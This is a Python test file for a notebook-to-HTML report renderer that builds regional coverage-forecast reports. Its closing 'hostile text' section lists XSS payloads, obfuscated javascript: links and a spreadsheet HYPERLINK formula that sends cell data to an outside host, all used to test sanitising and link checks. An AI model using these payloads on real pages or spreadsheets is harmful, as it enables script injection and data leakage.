"""Tests of ucj_analysis.render: notebook -> HTML report, records, index page, summary tables.

The demo notebook ``tests/data/render/report_demo.ipynb`` is executed with papermill (kernel
``python3`` of the venv): once normally (Konawe) and once with ``fail=True`` (Banggai).
"""

from __future__ import annotations

import base64
import datetime as dt
import html
import io
import re
import time
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlsplit

import nbformat
import pandas as pd
import pytest

from ucj_analysis import render
from ucj_analysis.record import RECORD_MIMETYPE, to_jsonable
from ucj_analysis.render import (
    SUMMARY_COLUMNS,
    atomic_write_bytes,
    atomic_write_text,
    notebook_to_html,
    read_records,
    summary_frame,
    write_index,
)

DATA = Path(__file__).parent / "data" / "render"
DEMO = DATA / "report_demo.ipynb"
SCENARIO_LABELS = {"baseline": "Tren saat ini", "dd_10pct": "10 % Dana Desa"}
COMMIT = "0123abc4567def"
ERROR_TEXT = "Data cakupan Banggai tidak lengkap: kolom 'active' kosong"

# code that exists only in the demo notebook's code cells (must never reach the HTML)
CODE_SNIPPETS = (
    "plt.subplots",
    "from ucj_analysis.record import record",
    "coverage_demo_path",
    "prob_main_deadline: float",  # the parameters cell
    "warnings.warn",
)


# --------------------------------------------------------------------------------------------
# helpers shared with test_browser.py
# --------------------------------------------------------------------------------------------
class LinkCollector(HTMLParser):
    """Collect a[href], img[src], script[src], link[href] of an HTML page."""

    def __init__(self) -> None:
        super().__init__()
        self.anchors: list[str] = []
        self.images: list[str] = []
        self.scripts: list[str] = []
        self.links: list[str] = []
        self.classes: list[str] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if a.get("class"):
            self.classes.extend(a["class"].split())
        if tag == "a" and a.get("href"):
            self.anchors.append(a["href"])
        elif tag == "img" and a.get("src"):
            self.images.append(a["src"])
        elif tag == "script" and a.get("src"):
            self.scripts.append(a["src"])
        elif tag == "link" and a.get("href"):
            self.links.append(a["href"])


def parse_links(text: str) -> LinkCollector:
    collector = LinkCollector()
    collector.feed(text)
    return collector


def execute_demo(out_path: Path, regency: str, fail: bool) -> tuple[float, str | None]:
    """Execute the demo notebook with papermill; return (seconds, error message or None)."""
    import papermill as pm

    start = time.perf_counter()
    error = None
    try:
        pm.execute_notebook(
            str(DEMO),
            str(out_path),
            parameters={"regency": regency, "fail": fail},
            kernel_name="python3",
            progress_bar=False,
            cwd=str(DATA),
        )
    except pm.PapermillExecutionError as exc:
        error = f"{exc.ename}: {exc.evalue}"
    return time.perf_counter() - start, error


def build_reports_dir(out_dir: Path, lang: str = "id") -> list[dict]:
    """Batch-like reports dir from the demo notebook: ok Konawe, failed Banggai, skipped audit."""
    out_dir = Path(out_dir)
    records = []
    for regency, fail in (("Konawe", False), ("Banggai", True)):
        slug = regency.lower()
        nb_path = out_dir / "02_regency_forecast" / f"{slug}.ipynb"
        nb_path.parent.mkdir(parents=True, exist_ok=True)
        seconds, error = execute_demo(nb_path, regency, fail)
        nb = nbformat.read(nb_path, as_version=4)
        values = read_records(nb)
        params = {"regency": regency, "fail": fail, "scenarios": list(SCENARIO_LABELS)}
        text = notebook_to_html(
            nb,
            title=f"Proyeksi cakupan UCJ — {regency}",
            header={
                "regency": regency,
                "scenarios": SCENARIO_LABELS,
                "run_date": dt.datetime(2025, 5, 14, 9, 30),
                "notebook": "02_regency_forecast",
            },
            footer={
                "parameters": params,
                "git_commit": COMMIT,
                "datasets": values.get("provenance", []),
            },
            lang=lang,
        )
        atomic_write_text(nb_path.with_suffix(".html"), text)
        records.append(
            {
                "notebook": "02_regency_forecast",
                "regency": regency,
                "slug": slug,
                "status": "failed" if error else "ok",
                "html": f"02_regency_forecast/{slug}.html",
                "ipynb": f"02_regency_forecast/{slug}.ipynb",
                "seconds": seconds,
                "error": error,
                "params": params,
                "records": values,
            }
        )
    records.append(
        {
            "notebook": "01_data_audit",
            "regency": None,
            "slug": "all",
            "status": "skipped",
            "html": None,
            "ipynb": None,
            "seconds": None,
            "error": None,
            "params": {},
            "records": {},
        }
    )
    write_index(records, out_dir, lang=lang)
    return records


@pytest.fixture(scope="module")
def batch(tmp_path_factory) -> tuple[Path, list[dict]]:
    out = tmp_path_factory.mktemp("reports")
    return out, build_reports_dir(out)


def _html(batch, slug: str) -> str:
    out, _ = batch
    return (out / "02_regency_forecast" / f"{slug}.html").read_text(encoding="utf-8")


def _external(collector: LinkCollector) -> list[str]:
    return [u for u in collector.scripts + collector.links if re.match(r"^(https?:)?//", u)]


# --------------------------------------------------------------------------------------------
# executed notebooks
# --------------------------------------------------------------------------------------------
@pytest.mark.slow
def test_executed_records_are_read_back(batch):
    _, records = batch
    ok, failed = records[0]["records"], records[1]["records"]
    assert ok["current_coverage_pct"] == 34.81
    assert ok["target_pct"] == 99.5
    assert ok["finished"] is True
    tt = ok["time_to_target"]
    assert [t["scenario"] for t in tt] == ["baseline", "dd_10pct"]
    assert tt[0]["median_month"] == "2031-05" and tt[0]["p90_month"] is None
    assert tt[0]["prob_main_deadline"] == pytest.approx(0.725)
    assert ok["provenance"][1]["n_assumed"] == 5
    # the failed run stopped before the last cell
    assert "finished" not in failed and failed["target_pct"] == 99.5
    assert records[1]["status"] == "failed" and ERROR_TEXT in records[1]["error"]


@pytest.mark.slow
def test_ok_report_has_no_code_and_is_self_contained(batch):
    text = _html(batch, "konawe")
    links = parse_links(text)
    assert "jp-InputArea" not in links.classes and "jp-InputArea-editor" not in links.classes
    assert not {"cm-editor", "jp-CodeMirrorEditor", "jp-InputPrompt"} & set(links.classes)
    for snippet in CODE_SNIPPETS:
        assert snippet not in text, snippet
    # papermill noise and stderr are gone
    assert "injected-parameters" not in text and "Parameters" not in text
    assert "pesan stderr teknis" not in text and "peringatan teknis" not in text
    # nothing fetched from the network
    assert _external(links) == []
    assert not re.search(r"<script[^>]+src=[\"']?https?:", text, re.I)
    assert not re.search(r"<link[^>]+href=[\"']?https?:", text, re.I)
    assert "cdnjs" not in text and "MathJax.Hub" not in text and "require.min.js" not in text
    # the matplotlib chart is embedded as a PNG data URI
    pngs = [src for src in links.images if src.startswith("data:image/png;base64,")]
    assert len(pngs) == 1
    raw = base64.b64decode(pngs[0].split(",", 1)[1])
    assert raw[:8] == b"\x89PNG\r\n\x1a\n" and len(raw) > 5000
    # visible outputs survive
    assert "Selesai untuk Konawe." in text
    assert "Cakupan per bulan" in text  # markdown heading
    assert "GAGAL" not in text and 'id="ucj-failed"' not in text


@pytest.mark.slow
def test_ok_report_header_and_footer(batch):
    text = _html(batch, "konawe")
    assert "<title>Proyeksi cakupan UCJ — Konawe</title>" in text
    assert '<html lang="id">' in text
    header = text[text.index('id="ucj-header"') : text.index('class="ucj-main"')]
    assert "Konawe" in header
    assert "Tren saat ini, 10 % Dana Desa" in header
    assert "14 Mei 2025, 09.30" in header
    footer = text[text.index('id="ucj-footer"') :]
    # parameters
    assert "<code>regency</code></th><td>Konawe</td>" in footer
    assert "<code>fail</code></th><td>false</td>" in footer
    assert "<code>scenarios</code></th><td>baseline, dd_10pct</td>" in footer
    # dataset sources and quality counts
    assert "BPJS Ketenagakerjaan Kendari (April 2025)" in footer
    assert "Cakupan UCJ per kabupaten" in footer
    assert re.search(
        r"<td><code>assumptions</code>.*?<span class=\"ucj-q ucj-q-assumed\">5</span>", footer
    )
    # version and commit
    import ucj_analysis
    from ucj_analysis.render import _package_version

    version = getattr(ucj_analysis, "__version__", None) or _package_version()
    assert f"ucj_analysis {version}" in footer
    assert f'<code class="ucj-commit">{COMMIT}</code>' in footer


@pytest.mark.slow
def test_failed_report_has_banner_and_readable_error(batch):
    text = _html(batch, "banggai")
    assert 'id="ucj-failed"' in text and "GAGAL / FAILED" in text
    banner = text[text.index('id="ucj-failed"') : text.index('class="ucj-main"')]
    assert ERROR_TEXT in html.unescape(banner)
    # the error box where the run stopped, with a link from the banner
    assert 'href="#ucj-error-1"' in banner
    box = text[text.index('id="ucj-error-1"') :]
    assert "ValueError: " + ERROR_TEXT in html.unescape(box[:2000])
    # the traceback (with the failing cell's lines) is only in a collapsed <details> for analysts
    details = re.findall(r"<details>.*?</details>", text, re.S)
    assert len(details) == 1 and ERROR_TEXT in html.unescape(details[0])
    visible = re.sub(r"<details>.*?</details>", "", text, flags=re.S)
    assert "raise ValueError" not in visible and "Selesai untuk" not in visible
    # papermill's own banner cells are gone, as is the code of the other cells
    assert "An Exception was encountered" not in text
    assert "Execution using papermill encountered" not in text
    for snippet in CODE_SNIPPETS:
        assert snippet not in text, snippet
    # what ran before the error is still shown
    assert "data:image/png;base64," in text
    assert _external(parse_links(text)) == []


# --------------------------------------------------------------------------------------------
# index, summary.csv, summary.xlsx
# --------------------------------------------------------------------------------------------
@pytest.mark.slow
def test_index_lists_every_report_and_links_resolve(batch):
    out, records = batch
    text = (out / "index.html").read_text(encoding="utf-8")
    links = parse_links(text)
    assert "<title>Laporan Proyeksi UCJ</title>" in text
    local = [h for h in links.anchors if not h.startswith("#")]
    assert local, "index has no links"
    for href in local:
        parts = urlsplit(href)
        assert not parts.scheme and not parts.netloc, f"external link {href}"
        assert (out / unquote(parts.path)).is_file(), f"broken link {href}"
    for rec in records:
        if rec["html"]:
            assert rec["html"] in local
            assert rec["ipynb"] in local
    # grouped by notebook, every report with its status
    section = text[text.index('id="reports"') :]
    assert section.index("01_data_audit") < section.index("02_regency_forecast")
    assert text.count('<span class="badge ok">berhasil</span>') == 1
    assert text.count('<span class="badge failed">gagal</span>') == 1
    assert text.count('<span class="badge skipped">dilewati</span>') == 1
    # the failed report: error message and a link to its HTML
    row = re.search(r'<tr class="status-failed">(.*?)</tr>', text, re.S).group(1)
    assert "Banggai" in row and 'href="02_regency_forecast/banggai.html"' in row
    assert ERROR_TEXT in html.unescape(row)
    assert "summary.xlsx" in local and "summary.csv" in local
    assert _external(links) == []


@pytest.mark.slow
def test_index_key_numbers_formatted_in_indonesian(batch):
    out, _ = batch
    text = (out / "index.html").read_text(encoding="utf-8")
    table = re.search(r'<table class="key-numbers">(.*?)</table>', text, re.S).group(1)
    assert "Peluang tercapai sebelum Desember 2030" in table
    konawe = table[table.index("Konawe") :]
    assert "34,81 %" in konawe and "99,5 %" in konawe  # the observed figure as given
    assert "Mei 2031" in konawe and "73 %" in konawe  # probability 0.725, whole percent
    assert "Jan 2029 – setelah Des 2045" in konawe
    assert "tidak tercapai sebelum Des 2045" in konawe
    assert re.search(r'<td class="num" data-label="[^"]*">0 %</td>', konawe)  # the phone label
    assert "0,0 %" not in konawe
    assert "laporan gagal" in table[: table.index("Konawe")]  # Banggai sorts first
    assert "2045-12" not in table  # never a capped date


#: columns of a batch whose forecast records carry no budget lines (the demo notebook's)
CORE_COLUMNS = [
    k for k in SUMMARY_COLUMNS if k not in render._OPTIONAL_SUMMARY
]  # regency ... coverage at the main deadline, report


@pytest.mark.slow
def test_summary_csv_and_xlsx_hold_the_key_numbers(batch):
    out, _ = batch
    cols = {k: v["id"] for k, v in SUMMARY_COLUMNS.items()}
    raw = (out / "summary.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    # Indonesian Excel: ';' between fields and a decimal comma
    csv = pd.read_csv(out / "summary.csv", sep=";", decimal=",", encoding="utf-8-sig")
    assert list(csv.columns) == [cols[k] for k in CORE_COLUMNS]  # no always-empty column
    assert list(csv[cols["regency"]]) == ["Banggai", "Konawe", "Konawe"]
    assert "34,81" in raw.decode("utf-8") and "34.81" not in raw.decode("utf-8")
    base = csv[csv[cols["scenario"]] == "baseline"].iloc[0]
    assert base[cols["current_coverage_pct"]] == pytest.approx(34.81)
    assert base[cols["target_pct"]] == pytest.approx(99.5)
    assert base[cols["median_month"]] == "2031-05"
    assert base[cols["p10_month"]] == "2029-01" and pd.isna(base[cols["p90_month"]])
    assert base[cols["time_to_target"]] == "Mei 2031"
    assert base[cols["prob_main_deadline_pct"]] == pytest.approx(72.5)
    assert base[cols["main_deadline"]] == "2030-12"
    assert base[cols["report"]] == "02_regency_forecast/konawe.html"
    nr = csv[csv[cols["scenario"]] == "dd_10pct"].iloc[0]
    assert nr[cols["time_to_target"]] == "tidak tercapai sebelum Des 2045"
    assert pd.isna(nr[cols["median_month"]]) and nr[cols["status"]] == "tidak tercapai"
    failed = csv[csv[cols["regency"]] == "Banggai"].iloc[0]
    assert failed[cols["status"]] == "laporan gagal" and pd.isna(
        failed[cols["current_coverage_pct"]]
    )

    sheets = pd.read_excel(out / "summary.xlsx", sheet_name=None)
    assert list(sheets) == ["Ringkasan", "Sumber data", "Laporan"]
    xl = sheets["Ringkasan"]
    assert list(xl.columns) == list(csv.columns)
    text_cols = [cols[k] for k in ("regency", "scenario", "time_to_target", "status", "report")]
    pd.testing.assert_frame_equal(xl[text_cols], csv[text_cols])
    prov = sheets["Sumber data"]
    assert list(prov["Data"]) == ["coverage", "assumptions"]
    assert list(prov["Asumsi"]) == [0, 5]
    assert prov.loc[0, "Sumber"] == "BPJS Ketenagakerjaan Kendari (April 2025)"
    reports = sheets["Laporan"]
    assert "Grafik" not in reports.columns
    assert list(reports["Status"]) == ["dilewati", "gagal", "berhasil"]
    assert ERROR_TEXT in reports.loc[1, "Kesalahan"]

    from openpyxl import load_workbook

    wb = load_workbook(out / "summary.xlsx")
    ws = wb["Ringkasan"]
    assert ws["A1"].font.b and ws["A1"].fill.fgColor.rgb.endswith("0B6E99")
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["F"].width >= len("tidak tercapai sebelum Des 2045")
    header = {c.value: c.column for c in ws[1]}
    konawe = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 3).value == "baseline")
    median = ws.cell(konawe, header[cols["median_month"]])
    assert median.value == dt.datetime(2031, 5, 1) and median.number_format.endswith("mmm yyyy")
    deadline = ws.cell(konawe, header[cols["main_deadline"]]).value
    assert deadline == dt.datetime(2030, 12, 1)
    cov = ws.cell(konawe, header[cols["current_coverage_pct"]])
    assert cov.data_type == "n" and cov.value == pytest.approx(34.81)
    assert cov.number_format == '0.0" %"'
    link_cell = ws.cell(row=2, column=header[cols["report"]])
    assert link_cell.hyperlink.target == "02_regency_forecast/banggai.html"
    # data source counts are numbers; "Baris" (rows) is the sum of the quality counts
    ws = wb["Sumber data"]
    assert [c.value for c in ws[3]][3:] == [5, 0, 0, 5] and ws.cell(3, 4).data_type == "n"


# --------------------------------------------------------------------------------------------
# pure functions (no kernel)
# --------------------------------------------------------------------------------------------
def _record_output(name, value):
    return nbformat.v4.new_output(
        "display_data", data={RECORD_MIMETYPE: {"name": name, "value": value}}
    )


def _synthetic_notebook(with_error: bool = False) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    params = nbformat.v4.new_code_cell("regency = 'Konawe'", metadata={"tags": ["parameters"]})
    injected = nbformat.v4.new_code_cell(
        "regency = 'Banggai'", metadata={"tags": ["injected-parameters"]}
    )
    injected.outputs = [nbformat.v4.new_output("stream", name="stdout", text="INJECTED-OUT\n")]
    chart = nbformat.v4.new_code_cell("make_chart_secret_code()")
    chart.outputs = [
        nbformat.v4.new_output(
            "display_data",
            data={
                "text/html": '<script src="https://cdn.example.org/lib.js"></script>'
                '<link rel="stylesheet" href="http://cdn.example.org/x.css">'
                "<p>Tabel hasil</p>",
                "text/plain": "<table>",
            },
        ),
        _record_output("a", 1),
        _record_output("a", 2),
    ]
    cells = [params, injected, nbformat.v4.new_markdown_cell("## Ringkasan hasil"), chart]
    if with_error:
        banner = nbformat.v4.new_markdown_cell(
            "<span>An Exception was encountered at 'In [3]'.</span>",
            metadata={"tags": ["papermill-error-cell-tag"]},
        )
        boom = nbformat.v4.new_code_cell("raise_secret_code()")
        boom.outputs = [
            nbformat.v4.new_output(
                "error",
                ename="KeyError",
                evalue="'Tojo Una-Una'",
                traceback=["\x1b[0;31mKeyError\x1b[0m: 'Tojo Una-Una'"],
            )
        ]
        cells = [banner, *cells, boom]
    nb.cells = cells
    return nb


def test_read_records_later_wins_and_accepts_json_strings():
    nb = _synthetic_notebook()
    extra = nbformat.v4.new_code_cell("x")
    extra.outputs = [
        nbformat.v4.new_output(
            "execute_result",
            data={RECORD_MIMETYPE: '{"name": "b", "value": [1, 2]}', "text/plain": "x"},
            execution_count=1,
        ),
        nbformat.v4.new_output("stream", name="stdout", text="no record"),
    ]
    nb.cells.append(extra)
    assert read_records(nb) == {"a": 2, "b": [1, 2]}
    assert read_records(nbformat.v4.new_notebook()) == {}


def test_record_values_are_json_plain():
    import numpy as np

    frame = pd.DataFrame(
        {"m": pd.PeriodIndex(["2031-05", "2032-01"], freq="M"), "p": [0.5, np.nan]}
    )
    out = to_jsonable(
        {
            "period": pd.Period("2030-12", "M"),
            "nat": pd.NaT,
            "i": np.int64(3),
            "f": np.float64(0.25),
            "inf": float("inf"),
            "b": np.bool_(True),
            "frame": frame,
            "arr": np.array([1.5, 2.5]),
            "date": dt.date(2025, 4, 30),
        }
    )
    assert out == {
        "period": "2030-12",
        "nat": None,
        "i": 3,
        "f": 0.25,
        "inf": None,
        "b": True,
        "frame": [{"m": "2031-05", "p": 0.5}, {"m": "2032-01", "p": None}],
        "arr": [1.5, 2.5],
        "date": "2025-04-30",
    }


def test_notebook_to_html_drops_noise_and_external_resources_english():
    text = notebook_to_html(
        _synthetic_notebook(),
        title="Regency forecast",
        header={"regency": None, "scenarios": ["baseline"], "run_date": "2025-05-14"},
        footer={"parameters": {"n_draws": 1000}, "git_commit": None, "datasets": []},
        lang="en",
    )
    assert '<html lang="en">' in text
    assert "secret_code" not in text and "INJECTED-OUT" not in text
    assert "regency = " not in text
    assert "Tabel hasil" in text and "Ringkasan hasil" in text
    assert "cdn.example.org" not in text
    assert "All regencies" in text and "14 May 2025" in text
    assert "About this report" in text and "No data source information." in text
    assert '<code class="ucj-commit">unknown</code>' in text
    assert "GAGAL" not in text


def test_each_thread_keeps_one_exporter_per_language_and_renders_the_same_page():
    import threading

    from ucj_analysis.render import report_page

    nb = _synthetic_notebook()  # (its cell ids are random: one notebook for every page)

    def page(lang: str) -> str:
        return notebook_to_html(
            nb,
            title="Proyeksi",
            header={"regency": "Konawe", "scenarios": ["baseline"], "run_date": "2025-05-14"},
            footer={"parameters": {"n_draws": 1000}},
            lang=lang,
        )

    first_id, first_en = page("id"), page("en")
    mine = dict(report_page._EXPORTERS.by_lang)
    assert set(mine) == {"id", "en"} and mine["id"] is not mine["en"]
    assert page("id") == first_id and page("en") == first_en  # the kept exporters, same pages
    assert '<html lang="id">' in first_id and "14 Mei 2025" in first_id
    assert '<html lang="en">' in first_en and "14 May 2025" in first_en
    other: dict = {}

    def in_thread() -> None:
        other["page"] = page("id")
        other["exporter"] = report_page._EXPORTERS.by_lang["id"]

    worker = threading.Thread(target=in_thread)
    worker.start()
    worker.join()
    assert other["page"] == first_id and other["exporter"] is not mine["id"]
    report_page._EXPORTERS.__dict__.clear()  # a new exporter renders the same page
    assert page("id") == first_id and report_page._EXPORTERS.by_lang["id"] is not mine["id"]


def test_notebook_to_html_failed_without_kernel():
    text = notebook_to_html(
        _synthetic_notebook(with_error=True),
        title="Proyeksi",
        header={"regency": "Tojo Una-Una", "scenarios": "baseline"},
        footer={},
    )
    assert "GAGAL / FAILED" in text and "Analisis ini berhenti" in text
    assert "KeyError: 'Tojo Una-Una'" in html.unescape(text)
    assert "\x1b[" not in text and "[0;31m" not in text
    assert "An Exception was encountered" not in text
    assert "raise_secret_code" not in text


def test_header_status_failed_forces_banner_with_runner_error():
    text = notebook_to_html(
        _synthetic_notebook(),
        title="Proyeksi",
        header={"regency": "Konawe", "status": "failed", "error": "CellTimeoutError: 600 s"},
        footer={},
    )
    banner = text[text.index('id="ucj-failed"') :]
    assert "CellTimeoutError: 600 s" in banner[:1500]


def test_summary_frame_english_and_not_reached():
    rec = {
        "notebook": "02_regency_forecast",
        "regency": "Konawe",
        "status": "ok",
        "html": "02_regency_forecast/konawe.html",
        "records": {
            "current_coverage_pct": 34.81,
            "target_pct": 99.5,
            "time_to_target": [
                {
                    "scenario": "base",
                    "scenario_label": "Current trend",
                    "median_month": "2031-05",
                    "p10_month": "2029-01",
                    "p90_month": "2034-02",
                    "status": "reached",
                    "prob_main_deadline": 0.1234,
                    "main_deadline": "2030-12",
                },
                {
                    "scenario": "none",
                    "scenario_label": "No action",
                    "median_month": None,
                    "p10_month": None,
                    "p90_month": None,
                    "status": "not_reached",
                    "prob_main_deadline": 0.0,
                    "main_deadline": "2030-12",
                },
            ],
        },
    }
    other = {"notebook": "03_budget_scenarios", "regency": "Konawe", "status": "ok", "records": {}}
    frame = summary_frame([rec, other], lang="en")
    assert list(frame.columns) == list(SUMMARY_COLUMNS)
    assert list(frame["time_to_target"]) == ["May 2031", "not reached by Dec 2045"]
    assert list(frame["prob_main_deadline_pct"]) == [12.34, 0.0]
    assert list(frame["status"]) == ["reached", "not reached"]
    assert pd.isna(frame["median_month"].iloc[1])


def test_write_index_english(tmp_path):
    (tmp_path / "02_regency_forecast").mkdir()
    (tmp_path / "02_regency_forecast" / "konawe.html").write_text("<html></html>")
    rec = {
        "notebook": "02_regency_forecast",
        "regency": "Konawe",
        "slug": "konawe",
        "status": "ok",
        "html": "02_regency_forecast/konawe.html",
        "ipynb": "02_regency_forecast/konawe.ipynb",  # missing on disk: shown, not linked
        "seconds": 75.2,
        "error": None,
        "params": {},
        "records": {
            "current_coverage_pct": 34.81,
            "target_pct": 99.5,
            "time_to_target": [
                {
                    "scenario": "base",
                    "scenario_label": "Current trend",
                    "median_month": "2031-05",
                    "p10_month": "2029-01",
                    "p90_month": "2034-02",
                    "status": "reached",
                    "prob_main_deadline": 0.725,
                    "main_deadline": "2030-12",
                }
            ],
        },
    }
    path = write_index([rec], tmp_path, lang="en")
    text = path.read_text(encoding="utf-8")
    assert path == tmp_path / "index.html"
    assert "UCJ Projection Reports" in text and '<html lang="en">' in text
    assert "34.81%" in text and "73%" in text and "May 2031" in text
    assert "Jan 2029 – Feb 2034" in text and "Probability by December 2030" in text
    assert "1 min 15 s" in text
    hrefs = parse_links(text).anchors
    assert "02_regency_forecast/konawe.html" in hrefs
    assert "02_regency_forecast/konawe.ipynb" not in hrefs
    sheets = pd.read_excel(tmp_path / "summary.xlsx", sheet_name=None)
    assert list(sheets) == ["Summary", "Data sources", "Reports"]
    assert sheets["Summary"].loc[0, "Probability by deadline [%]"] == pytest.approx(72.5)
    assert not list(tmp_path.glob(".*.tmp"))


def test_atomic_write_replaces_and_leaves_no_temp_file(tmp_path):
    target = tmp_path / "sub" / "a.txt"
    atomic_write_text(target, "erste")
    atomic_write_text(target, "Cakupan 34,8 % — selesai")
    assert target.read_text(encoding="utf-8") == "Cakupan 34,8 % — selesai"
    atomic_write_bytes(tmp_path / "b.bin", b"\x00\x01")
    assert (tmp_path / "b.bin").read_bytes() == b"\x00\x01"
    with pytest.raises(TypeError):
        atomic_write_bytes(target, "not bytes")  # type: ignore[arg-type]
    assert target.read_text(encoding="utf-8") == "Cakupan 34,8 % — selesai"  # old content kept
    assert sorted(p.name for p in target.parent.iterdir()) == ["a.txt"]
    import os

    umask = os.umask(0)
    os.umask(umask)
    assert target.stat().st_mode & 0o777 == 0o666 & ~umask  # not the 0600 of a temp file


def test_files_that_belong_together_are_all_staged_before_any_is_replaced(tmp_path, monkeypatch):
    from ucj_analysis.render import files

    a, b, c = tmp_path / "summary.csv", tmp_path / "summary.xlsx", tmp_path / "index.html"
    assert files.atomic_write_many({a: b"a1", b: b"b1", c: b"c1"}) == [a, b, c]
    assert [p.read_bytes() for p in (a, b, c)] == [b"a1", b"b1", b"c1"]
    replaced: list[str] = []
    real_replace = files.os.replace

    def replace(src, dst):
        if not replaced:  # by the first replacement every new file is complete beside its target
            staged = sorted(p.name.rsplit(".", 2)[0] for p in tmp_path.glob(".*.tmp"))
            assert staged == [".index.html", ".summary.csv", ".summary.xlsx"], staged
        replaced.append(Path(dst).name)
        real_replace(src, dst)

    monkeypatch.setattr(files.os, "replace", replace)
    files.atomic_write_many({a: b"a2", b: b"b2", c: b"c2"})
    assert replaced == ["summary.csv", "summary.xlsx", "index.html"]
    assert [p.read_bytes() for p in (a, b, c)] == [b"a2", b"b2", b"c2"]
    # a failure while staging (here: the last content is not bytes) replaces nothing
    with pytest.raises(TypeError):
        files.atomic_write_many({a: b"a3", b: b"b3", c: "not bytes"})  # type: ignore[dict-item]
    assert [p.read_bytes() for p in (a, b, c)] == [b"a2", b"b2", b"c2"]
    assert not list(tmp_path.glob(".*.tmp"))


def test_the_index_and_its_summary_tables_are_replaced_together(tmp_path, monkeypatch):
    from ucj_analysis.render import files, index

    calls: list[list[str]] = []

    def spy(contents):
        calls.append([Path(p).name for p in contents])
        return files.atomic_write_many(contents)

    monkeypatch.setattr(index, "atomic_write_many", spy)
    write_index([], tmp_path, lang="id")
    assert calls == [["summary.csv", "summary.xlsx", "index.html"]]
    assert (tmp_path / "index.html").is_file() and (tmp_path / "summary.xlsx").is_file()


def test_header_scenarios_accept_keys_mappings_and_scenario_objects():
    from ucj_analysis.scenarios import Scenario, Text

    objs = [
        Scenario(id="baseline", label=Text("Tren saat ini", "Current trend")),
        Scenario(id="dd10", label=Text("10 % Dana Desa", "10 % of Dana Desa")),
    ]
    for scenarios, lang, expected in [
        (objs, "en", "Current trend, 10 % of Dana Desa"),
        (objs, "id", "Tren saat ini, 10 % Dana Desa"),
        ({"baseline": {"id": "Tren", "en": "Trend"}}, "en", "Trend"),
        ([{"key": "a", "label": "Skenario A"}, "b"], "id", "Skenario A, b"),
    ]:
        text = notebook_to_html(
            nbformat.v4.new_notebook(),
            title="T",
            header={"regency": "Konawe", "scenarios": scenarios},
            footer={},
            lang=lang,
        )
        header = text[text.index('id="ucj-header"') : text.index("</header>")]
        assert f"<dd>{html.escape(expected)}</dd>" in header


def test_write_index_makes_absolute_report_paths_relative(tmp_path):
    report = tmp_path / "01_data_audit" / "all.html"
    report.parent.mkdir()
    report.write_text("<html></html>")
    rec = {
        "notebook": "01_data_audit",
        "regency": None,
        "slug": "all",
        "status": "ok",
        "html": str(report),
        "ipynb": None,
        "seconds": 3.26,
        "error": None,
        "params": {},
        "records": {},
    }
    text = write_index([rec], tmp_path).read_text(encoding="utf-8")
    assert 'href="01_data_audit/all.html"' in text
    assert str(tmp_path) not in text
    assert "3,3 dtk" in text
    assert "Belum ada hasil proyeksi per kabupaten" in text
    assert pd.read_csv(tmp_path / "summary.csv").empty


# --------------------------------------------------------------------------------------------
# hostile text: escaping, sanitising, spreadsheet formulas
# --------------------------------------------------------------------------------------------
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://x?"&A2,"y")'


class DomAudit(HTMLParser):
    """Elements and attributes that could run code, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts = 0
        self.handlers: list[tuple[str, str]] = []
        self.bad_urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed"):
            self.scripts += 1
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append((tag, name))
            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
                url = re.sub(r"[\x00-\x20]", "", value).lower()
                if url.startswith(("javascript:", "vbscript:")) or (
                    url.startswith("data:") and not (tag == "img" and url.startswith("data:image/"))
                ):
                    self.bad_urls.append(value)

    handle_startendtag = handle_starttag


def audit_dom(text: str) -> DomAudit:
    audit = DomAudit()
    audit.feed(text)
    return audit


@pytest.mark.parametrize(
    ("fragment", "expected"),
    [
        (SCRIPT + "<p>a &amp; <b>b</b></p>", "<p>a &amp; <b>b</b></p>"),
        (IMG, '<img src="x">'),
        ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
        ('<a href=" java\tscript:alert(1)">x</a>', "<a>x</a>"),
        ('<a href="&#106;avascript:alert(1)">x</a>', "<a>x</a>"),
        ('<a href="data:text/html,<script>">x</a>', "<a>x</a>"),
        ('<a href="https://bpjs.go.id/?a=1&amp;b=2">x</a>', '<a href="https://bpjs.go.id/?a=1&amp;b=2">x</a>'),
        ('<a href="#s">x</a><a href="r/a.htm">y</a>', '<a href="#s">x</a><a href="r/a.htm">y</a>'),
        ('<img src="data:image/png;base64,iVBOR">', '<img src="data:image/png;base64,iVBOR">'),
        ('<svg onload="alert(1)"><a xlink:href="javascript:1">t</a></svg>', "<svg><a>t</a></svg>"),
        ('<iframe srcdoc="<script>alert(1)</script>"></iframe>after', "after"),
        ('<div style="width:expression(alert(1))">s</div><!-- note -->', "<div>s</div>"),
        ("<style>#T_a th > td {color: red}</style>", "<style>#T_a th > td {color: red}</style>"),
        ("<svg><style><img src=x onerror=alert(1)></style></svg>",
         "<svg><style>\\3c img src=x onerror=alert(1)></style></svg>"),
        ('<p title="&quot;><script>">q</p>', '<p title="&quot;&gt;&lt;script&gt;">q</p>'),
        ('<meta http-equiv="refresh" content="0;url=javascript:1"><base href="//evil">t', "t"),
    ],
)  # fmt: skip
def test_sanitize_html_keeps_only_inert_markup(fragment, expected):
    assert render.sanitize_html(fragment) == expected


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("02_regency_forecast/konawe.html", "02_regency_forecast/konawe.html"),
        ("02_regency_forecast/tojo una-una.html", "02_regency_forecast/tojo%20una-una.html"),
        ("javascript:alert(1)", None),
        (" JavaScript:alert(1)", None),
        ("java\nscript:alert(1)", None),
        ("data:text/html;base64,PHNjcmlwdD4=", None),
        ("https://evil.example/x.html", None),
        ("//evil.example/x.html", None),
        ("/etc/passwd", None),
        ("", None),
        (None, None),
    ],
)
def test_safe_relative_href(path, expected):
    assert render.safe_relative_href(path) == expected


def test_formula_like_and_csv_neutralising():
